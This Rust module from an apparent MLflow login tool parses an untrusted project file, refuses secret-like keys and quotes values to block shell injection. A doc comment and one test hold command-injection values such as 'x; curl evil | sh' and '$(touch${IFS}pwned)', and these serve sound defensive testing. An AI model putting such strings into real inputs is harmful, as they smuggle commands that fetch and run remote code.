//! The project file, `.mlflow-login.toml`: a small file at a project's root, committed
//! with the project, that names the tracking server the project logs to.
//!
//! The name: a dotfile like `.envrc` and `.nvmrc` (tools' per-folder settings hide in the
//! listing), named after the tool that reads it, in TOML like our `config.toml`.
//!
//! It comes from a cloned repository, so it is not trusted: it holds no secret (a key that
//! looks like one is refused with the file and line), and it can only **select** a server
//! the user already logged in to, matched by normalised URL ([`Project::server_in`]). A URL
//! no known server has gets credentials from nowhere: the shell hook exports the bare URI
//! and a hint to log in (see `docs/projects.md`).

use std::path::{Path, PathBuf};

use serde::Deserialize;

use crate::config::Config;
use crate::error::{Error, Result};
use crate::server::{Server, normalize_url, validate_name};

/// The project file's name.
pub const FILE_NAME: &str = ".mlflow-login.toml";

/// The exported variable that holds the project file in force in a hooked shell (empty or
/// unset: none). The hook sets it when it enters or leaves a project.
pub const PROJECT_ENV: &str = "MLFLOW_LOGIN_PROJECT";

/// Keys that look like a secret: a project file is shared, so it never holds one.
const SECRET_LIKE: &[&str] = &["password", "passwd", "token", "secret", "apikey", "api_key", "credential"];

/// How the project's server authenticates, as the file suggests it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ProjectAuth {
    /// Username and password.
    Basic,
    /// A token.
    Bearer,
    /// A browser sign-in (OpenID Connect): `issuer` and `client_id` say where.
    Sso,
}

impl ProjectAuth {
    /// The value in the file and on the command line.
    pub fn as_str(self) -> &'static str {
        match self {
            ProjectAuth::Basic => "basic",
            ProjectAuth::Bearer => "bearer",
            ProjectAuth::Sso => "sso",
        }
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Raw {
    url: String,
    name: Option<String>,
    auth: Option<ProjectAuth>,
    issuer: Option<String>,
    client_id: Option<String>,
    redirect_port: Option<u16>,
    ca_bundle: Option<PathBuf>,
    workspace: Option<String>,
}

/// A parsed project file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Project {
    /// The file.
    pub file: PathBuf,
    /// The folder it is in: the project's root.
    pub root: PathBuf,
    /// The tracking URL, normalised.
    pub url: String,
    /// A suggested short name for the server.
    pub name: Option<String>,
    /// The suggested auth kind.
    pub auth: Option<ProjectAuth>,
    /// The SSO issuer.
    pub issuer: Option<String>,
    /// The SSO client id.
    pub client_id: Option<String>,
    /// The SSO redirect port the identity provider requires, if it requires one.
    pub redirect_port: Option<u16>,
    /// A CA bundle, resolved against the project's root.
    pub ca_bundle: Option<PathBuf>,
    /// The MLflow workspace the project logs to (see [`crate::choose::for_shell`]).
    pub workspace: Option<String>,
}

/// The project file that governs `start`: the first `.mlflow-login.toml` in `start` or a
/// folder above it. The walk stops at `home` (included) and never looks in the file system's
/// root, as the shell hooks' walk does.
pub fn find(start: &Path, home: Option<&Path>) -> Option<PathBuf> {
    for dir in start.ancestors() {
        if dir.parent().is_none() {
            break;
        }
        let file = dir.join(FILE_NAME);
        if file.is_file() {
            return Some(file);
        }
        if Some(dir) == home {
            break;
        }
    }
    None
}

/// The project file in force in this process's shell ([`PROJECT_ENV`]), if any.
pub fn file_from_env() -> Option<PathBuf> {
    std::env::var_os(PROJECT_ENV).filter(|p| !p.is_empty()).map(PathBuf::from)
}

/// Why a project file found by the walk is not used.
#[derive(Debug)]
pub enum Ignored {
    /// Someone else could have written it (see [`trust`]).
    Untrusted {
        /// The file.
        file: PathBuf,
        /// Who could, in words: "its folder /tmp is writable by every user".
        why: String,
    },
    /// It does not read or parse.
    Invalid(Error),
}

impl Ignored {
    /// The file.
    pub fn file(&self) -> Option<&Path> {
        match self {
            Ignored::Untrusted { file, .. } => Some(file),
            Ignored::Invalid(Error::Config { path, .. }) => Some(path),
            Ignored::Invalid(_) => None,
        }
    }
}

impl std::fmt::Display for Ignored {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Ignored::Untrusted { file, why } => write!(
                f,
                "the project file {} is ignored: {why}, so another user could choose your server with it",
                file.display()
            ),
            Ignored::Invalid(e) => write!(f, "{e}; the project file is ignored"),
        }
    }
}

/// Reads `file` when it may be trusted ([`trust`]), else says why it is ignored. What the
/// hook, `env`, `exec`, `status`, `token` and `doctor` all use.
pub fn load_trusted(file: &Path) -> std::result::Result<Project, Ignored> {
    trust(file).map_err(|why| Ignored::Untrusted { file: file.to_path_buf(), why })?;
    load(file).map_err(Ignored::Invalid)
}

/// Whether a project file may choose this user's server, as git's `safe.directory` decides
/// for a repository: the file and the folder it is in must each be owned by this user or
/// by root, and writable by no one else. Otherwise another account (on a shared host, a
/// file in `/tmp` or in another user's `/data`) could send this user's shells, and a more
/// privileged account's, to a server of its choosing. Group-writable is allowed for the
/// owner's private group (named like the owner, the owner's primary group, no other
/// member), which Debian's and Ubuntu's login umask 002 gives every file a user writes.
///
/// `Err` says why, in words. On systems without Unix owners every file is trusted.
pub fn trust(file: &Path) -> std::result::Result<(), String> {
    #[cfg(unix)]
    {
        let me = nix::unistd::Uid::effective().as_raw();
        let folder = match file.parent() {
            Some(p) if !p.as_os_str().is_empty() => p,
            _ => Path::new("."),
        };
        let folder_words = format!("its folder {}", folder.display());
        for (what, path) in [("it", file), (folder_words.as_str(), folder)] {
            let meta = std::fs::metadata(path).map_err(|e| format!("{what} cannot be read ({e})"))?;
            unix_trust(&meta, me).map_err(|why| format!("{what} {why}"))?;
        }
    }
    #[cfg(not(unix))]
    let _ = file;
    Ok(())
}

#[cfg(unix)]
fn unix_trust(meta: &std::fs::Metadata, me: u32) -> std::result::Result<(), String> {
    use std::os::unix::fs::MetadataExt;
    let owner = meta.uid();
    if owner != me && owner != 0 {
        let name = nix::unistd::User::from_uid(owner.into()).ok().flatten().map(|u| u.name);
        return Err(match name {
            Some(n) => format!("belongs to another user ({n})"),
            None => format!("belongs to another user (uid {owner})"),
        });
    }
    if meta.mode() & 0o002 != 0 {
        return Err("is writable by every user".into());
    }
    if meta.mode() & 0o020 != 0 && !private_group(owner, meta.gid()) {
        let name = nix::unistd::Group::from_gid(meta.gid().into()).ok().flatten().map(|g| g.name);
        return Err(format!("is writable by the group {}", name.unwrap_or_else(|| meta.gid().to_string())));
    }
    Ok(())
}

/// Whether `gid` is `uid`'s private group: named like the user, the user's primary group,
/// and no other member listed. Unknown users or groups are not private.
#[cfg(unix)]
fn private_group(uid: u32, gid: u32) -> bool {
    use nix::unistd::{Group, User};
    let Ok(Some(user)) = User::from_uid(uid.into()) else { return false };
    let Ok(Some(group)) = Group::from_gid(gid.into()) else { return false };
    group.name == user.name && user.gid.as_raw() == gid && group.mem.iter().all(|m| *m == user.name)
}

/// Reads and parses `file`.
pub fn load(file: &Path) -> Result<Project> {
    let text = std::fs::read_to_string(file).map_err(|e| match e.kind() {
        std::io::ErrorKind::InvalidData => config_error(file, None, "the file is not valid UTF-8"),
        _ => Error::io(file, e),
    })?;
    parse(file, &text)
}

fn config_error(file: &Path, line: Option<usize>, message: impl Into<String>) -> Error {
    Error::Config { path: file.to_path_buf(), line, message: message.into() }
}

fn line_of(text: &str, offset: usize) -> usize {
    text[..offset.min(text.len())].matches('\n').count() + 1
}

/// Parses the text of `file`: refuses secret-like keys (anywhere, also in sub-tables) and
/// unknown keys, each with its line, then checks the values.
pub fn parse(file: &Path, text: &str) -> Result<Project> {
    let doc = toml::de::DeTable::parse(text)
        .map_err(|e| config_error(file, e.span().map(|s| line_of(text, s.start)), e.message().trim().to_string()))?;
    refuse_secrets(file, text, doc.get_ref())?;
    let raw: Raw = toml::from_str(text)
        .map_err(|e| config_error(file, e.span().map(|s| line_of(text, s.start)), e.message().trim().to_string()))?;
    let invalid = |e: Error| config_error(file, None, e.to_string());
    let url = normalize_url(&raw.url).map_err(invalid)?.to_string_normalized();
    if let Some(name) = &raw.name {
        validate_name(name).map_err(invalid)?;
    }
    if raw.auth != Some(ProjectAuth::Sso)
        && (raw.issuer.is_some() || raw.client_id.is_some() || raw.redirect_port.is_some())
    {
        return Err(config_error(file, None, "issuer, client_id and redirect_port are for auth = \"sso\""));
    }
    if let Some(ws) = &raw.workspace {
        crate::server::validate_workspace_name(ws).map_err(invalid)?;
    }
    if raw.redirect_port == Some(0) {
        return Err(config_error(file, None, "redirect_port must be a port from 1 to 65535"));
    }
    let root = file.parent().unwrap_or(Path::new(".")).to_path_buf();
    Ok(Project {
        ca_bundle: raw.ca_bundle.map(|p| root.join(p)),
        file: file.to_path_buf(),
        root,
        url,
        name: raw.name,
        auth: raw.auth,
        issuer: raw.issuer,
        client_id: raw.client_id,
        redirect_port: raw.redirect_port,
        workspace: raw.workspace,
    })
}

fn refuse_secrets(file: &Path, text: &str, table: &toml::de::DeTable<'_>) -> Result<()> {
    for (key, value) in table {
        let lower = key.get_ref().to_ascii_lowercase();
        if SECRET_LIKE.iter().any(|s| lower.contains(s)) {
            return Err(config_error(
                file,
                Some(line_of(text, key.span().start)),
                format!(
                    "\"{}\" looks like a secret, and a project file is shared with everyone who clones the project: \
                     remove it and run `mlflow-login login` (the keychain keeps the secret)",
                    key.get_ref()
                ),
            ));
        }
        if let toml::de::DeValue::Table(sub) = value.get_ref() {
            refuse_secrets(file, text, sub)?;
        }
    }
    Ok(())
}

impl Project {
    /// The known server this project selects: one whose URL is the project's (after
    /// normalisation). Of several (two accounts on one server), the one with the file's
    /// suggested name, else the active one, else the first by name. `None`: the user has
    /// not logged in to this URL, and nothing is sent there on the file's word.
    pub fn server_in<'a>(&self, config: &'a Config) -> Option<(&'a str, &'a Server)> {
        let active = config.active.as_deref();
        config
            .servers
            .iter()
            .filter(|(_, s)| s.url == self.url)
            .max_by_key(|(n, _)| {
                (self.name.as_deref() == Some(n.as_str()), active == Some(n.as_str()), std::cmp::Reverse(n.as_str()))
            })
            .map(|(n, s)| (n.as_str(), s))
    }

    /// The command that logs in to this project's server, with the file's settings:
    /// `mlflow-login login NAME --url URL [--auth ...] [--ca-bundle ...]`.
    /// The file comes from a cloned repository and the command is there to be copied into a
    /// shell: every value is one quoted word (an `issuer` of `x; curl evil | sh` must not
    /// become a second command), and the whole is cleaned of control characters (a terminal
    /// escape sequence would otherwise reach the prompt).
    pub fn login_command(&self) -> String {
        let cmd = self.login_command_raw();
        crate::text::clean(&cmd, 1000)
    }

    fn login_command_raw(&self) -> String {
        use crate::text::shell_word as w;
        let name = self.name.clone().unwrap_or_else(|| self.suggested_name());
        let mut cmd = format!("mlflow-login login {} --url {}", w(&name), w(&self.url));
        if let Some(auth) = self.auth {
            cmd.push_str(&format!(" --auth {}", auth.as_str()));
        }
        if let Some(issuer) = &self.issuer {
            cmd.push_str(&format!(" --issuer {}", w(issuer)));
        }
        if let Some(client_id) = &self.client_id {
            cmd.push_str(&format!(" --client-id {}", w(client_id)));
        }
        if let Some(port) = self.redirect_port {
            cmd.push_str(&format!(" --redirect-port {port}"));
        }
        if let Some(ca) = &self.ca_bundle {
            cmd.push_str(&format!(" --ca-bundle {}", w(&ca.to_string_lossy())));
        }
        cmd
    }

    /// A server name from the URL's host when the file suggests none (`mlflow.example.com`
    /// gives `mlflow`).
    fn suggested_name(&self) -> String {
        let host = url::Url::parse(&self.url).ok().and_then(|u| u.host_str().map(str::to_string)).unwrap_or_default();
        let first: String = host
            .split('.')
            .next()
            .unwrap_or_default()
            .chars()
            .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
            .collect();
        if validate_name(&first).is_ok() { first } else { "NAME".into() }
    }
}

/// The text of a project file for `server`, suggesting `name` (`project init`).
pub fn render(name: &str, server: &Server, ca_bundle: Option<&Path>) -> String {
    let mut out = String::from(
        "# The MLflow tracking server of this project, read by MLflow Login.\n\
         # No secrets here: each user logs in once with `mlflow-login login`.\n",
    );
    let q = |s: &str| toml::Value::String(s.to_string()).to_string();
    out.push_str(&format!("url = {}\n", q(&server.url)));
    out.push_str(&format!("name = {}\n", q(name)));
    let auth = match server.auth {
        crate::AuthKind::Basic => ProjectAuth::Basic,
        crate::AuthKind::Bearer => ProjectAuth::Bearer,
        crate::AuthKind::Sso => ProjectAuth::Sso,
    };
    out.push_str(&format!("auth = {}\n", q(auth.as_str())));
    // Where the identity provider is, so a teammate's login needs no flags (no secret: the
    // issuer and the public client's id are what every user's browser sees).
    if let Some(sso) = server.sso.as_ref().filter(|_| auth == ProjectAuth::Sso) {
        if let Some(issuer) = &sso.issuer {
            out.push_str(&format!("issuer = {}\n", q(issuer)));
        }
        if let Some(client_id) = &sso.client_id {
            out.push_str(&format!("client_id = {}\n", q(client_id)));
        }
        if let Some(port) = sso.redirect_port {
            out.push_str(&format!("redirect_port = {port}\n"));
        }
    }
    if let Some(ca) = ca_bundle {
        out.push_str(&format!("ca_bundle = {}\n", q(&ca.to_string_lossy())));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ErrorKind;
    use crate::choose::Choice;

    fn parse_ok(text: &str) -> Project {
        parse(Path::new("/p/.mlflow-login.toml"), text).unwrap()
    }

    fn parse_err(text: &str) -> Error {
        parse(Path::new("/p/.mlflow-login.toml"), text).unwrap_err()
    }

    #[test]
    fn the_login_hint_is_one_command_whatever_the_file_says() {
        // A cloned repository's file, written to make a copied hint run something else.
        let p = parse_ok(concat!(
            "url = \"https://h.example/a$(touch${IFS}pwned)b\"\nauth = \"sso\"\n",
            "issuer = \"https://idp; touch pwned | sh\"\nclient_id = \"it's `id`\"\nca_bundle = \"c a/ca.pem\"\n",
        ));
        let hint = p.login_command();
        assert!(hint.starts_with("mlflow-login login "), "{hint}");
        let dir = tempfile::tempdir().unwrap();
        // The hint as a shell reads it: each word on its own line, nothing run.
        let script = hint.replacen("mlflow-login", "printf '%s\\n'", 1);
        let out = std::process::Command::new("sh").arg("-c").arg(&script).current_dir(dir.path()).output().unwrap();
        assert!(out.status.success(), "{script}: {}", String::from_utf8_lossy(&out.stderr));
        let words: Vec<String> = String::from_utf8(out.stdout).unwrap().lines().map(str::to_string).collect();
        assert_eq!(
            words,
            [
                "login",
                p.name.clone().unwrap_or_else(|| p.suggested_name()).as_str(),
                "--url",
                p.url.as_str(),
                "--auth",
                "sso",
                "--issuer",
                "https://idp; touch pwned | sh",
                "--client-id",
                "it's `id`",
                "--ca-bundle",
                "/p/c a/ca.pem",
            ]
        );
        assert!(!dir.path().join("pwned").exists());
    }

    #[test]
    fn parses_every_field() {
        let p = parse_ok(
            "url = \"https://Host:443/mlflow/\"\nname = \"team\"\nauth = \"sso\"\nissuer = \"https://idp\"\nclient_id = \"mlflow\"\nredirect_port = 8400\nca_bundle = \"certs/ca.pem\"\n",
        );
        assert_eq!(p.url, "https://host/mlflow");
        assert_eq!(p.name.as_deref(), Some("team"));
        assert_eq!(p.auth, Some(ProjectAuth::Sso));
        assert_eq!(p.root, Path::new("/p"));
        assert_eq!(p.ca_bundle.as_deref(), Some(Path::new("/p/certs/ca.pem")));
        assert_eq!(
            p.login_command(),
            "mlflow-login login team --url https://host/mlflow --auth sso --issuer https://idp --client-id mlflow --redirect-port 8400 --ca-bundle /p/certs/ca.pem"
        );
    }

    #[test]
    fn secret_keys_are_refused_with_file_and_line() {
        for (text, line) in [
            ("url = \"https://h\"\npassword = \"hunter2\"\n", 2),
            ("url = \"https://h\"\n\n\nMLFLOW_TRACKING_TOKEN = \"t\"\n", 4),
            ("url = \"https://h\"\n[auth_extra]\nclient_secret = \"s\"\n", 3),
        ] {
            let e = parse_err(text);
            assert_eq!(e.kind(), ErrorKind::Config, "{text}");
            assert!(matches!(&e, Error::Config { line: Some(l), .. } if *l == line), "{text}: {e:?}");
            assert!(e.to_string().starts_with(&format!("/p/.mlflow-login.toml:{line}: ")), "{e}");
            assert!(!e.to_string().contains("hunter2"), "the value is never shown: {e}");
        }
    }

    #[test]
    fn unknown_keys_and_bad_values_are_errors() {
        let e = parse_err("url = \"https://h\"\nusername = \"alice\"\n");
        assert!(matches!(&e, Error::Config { line: Some(2), .. }), "{e:?}");
        assert_eq!(parse_err("name = \"x\"\n").kind(), ErrorKind::Config, "url is required");
        assert_eq!(parse_err("url = \"https://u:p@h\"\n").kind(), ErrorKind::Config);
        assert_eq!(parse_err("url = \"https://h\"\nname = \"-x\"\n").kind(), ErrorKind::Config);
        assert_eq!(parse_err("url = \"https://h\"\nauth = \"kerberos\"\n").kind(), ErrorKind::Config);
        assert_eq!(parse_err("url = \"https://h\"\nissuer = \"https://idp\"\n").kind(), ErrorKind::Config);
        assert_eq!(parse_err("url = ").kind(), ErrorKind::Config);
    }

    #[test]
    fn selects_only_a_known_server_by_normalised_url() {
        let mut c = Config::default();
        c.servers.insert("a".into(), Server::new_basic("https://h/mlflow", "u").unwrap());
        c.servers.insert("b".into(), Server::new_basic("https://h/mlflow", "v").unwrap());
        c.servers.insert("other".into(), Server::new_basic("https://h/mlflow2", "u").unwrap());
        let p = parse_ok("url = \"HTTPS://h:443/mlflow/\"\n");
        assert_eq!(p.server_in(&c).map(|(n, _)| n), Some("a"), "first by name");
        c.active = Some("b".into());
        assert_eq!(p.server_in(&c).map(|(n, _)| n), Some("b"), "the active one");
        let named = parse_ok("url = \"https://h/mlflow\"\nname = \"a\"\n");
        assert_eq!(named.server_in(&c).map(|(n, _)| n), Some("a"), "the suggested name");
        let below = parse_ok("url = \"https://h/mlflow/sub\"\n");
        assert_eq!(below.server_in(&c), None, "a URL below a known server's is another server");
        let choice = Choice::make(&c, Some(below), Some("a"));
        assert_eq!(choice.server(), None, "an unknown project URL selects nothing, not the pin");
        assert_eq!(Choice::make(&c, None, Some("a")), Choice::Pin("a".into()));
        assert_eq!(Choice::make(&c, None, None), Choice::Active("b".into()));
    }

    #[test]
    fn find_walks_up_and_stops_at_home() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let deep = home.join("proj/src/pkg");
        std::fs::create_dir_all(&deep).unwrap();
        assert_eq!(find(&deep, Some(&home)), None);
        std::fs::write(d.path().join(FILE_NAME), "url = \"https://h\"\n").unwrap();
        assert_eq!(find(&deep, Some(&home)), None, "above home is not looked at");
        assert_eq!(find(&deep, None), Some(d.path().join(FILE_NAME)), "without a home the walk goes on");
        std::fs::write(home.join("proj").join(FILE_NAME), "url = \"https://h\"\n").unwrap();
        assert_eq!(find(&deep, Some(&home)), Some(home.join("proj").join(FILE_NAME)));
    }

    /// A project file in a folder every user can write to (`/tmp`, a shared `/data`) is
    /// ignored, and so is one anyone can edit; the same file, locked down, is used.
    #[cfg(unix)]
    #[test]
    fn files_others_could_write_are_not_trusted() {
        use std::os::unix::fs::PermissionsExt;
        let d = tempfile::tempdir().unwrap();
        let file = d.path().join(FILE_NAME);
        std::fs::write(&file, "url = \"https://h\"\n").unwrap();
        let mode = |p: &Path, m: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
        mode(d.path(), 0o755);
        mode(&file, 0o644);
        assert!(load_trusted(&file).is_ok());
        mode(d.path(), 0o1777);
        let e = load_trusted(&file).unwrap_err();
        assert!(e.to_string().contains("is writable by every user"), "{e}");
        assert_eq!(e.file(), Some(file.as_path()));
        mode(d.path(), 0o755);
        mode(&file, 0o646);
        assert!(matches!(load_trusted(&file), Err(Ignored::Untrusted { .. })));
    }

    #[test]
    fn render_parses_back() {
        let s = Server::new_basic("https://h/mlflow", "alice").unwrap();
        let text = render("prod", &s, Some(Path::new("ca.pem")));
        let p = parse_ok(&text);
        assert_eq!(p.url, "https://h/mlflow");
        assert_eq!(p.name.as_deref(), Some("prod"));
        assert_eq!(p.auth, Some(ProjectAuth::Basic));
        // A single sign-on server: its kind and where its identity provider is.
        let mut sso = Server::new_basic("https://h/mlflow", "alice").unwrap();
        sso.auth = crate::AuthKind::Sso;
        sso.sso = Some(crate::SsoSettings {
            issuer: Some("https://idp.example".into()),
            client_id: Some("mlflow".into()),
            scopes: vec![],
            redirect_port: Some(8400),
            from_team_list: false,
        });
        let p = parse_ok(&render("team", &sso, None));
        assert_eq!(p.auth, Some(ProjectAuth::Sso));
        assert_eq!((p.issuer.as_deref(), p.client_id.as_deref()), (Some("https://idp.example"), Some("mlflow")));
        assert_eq!(p.redirect_port, Some(8400));
    }
}
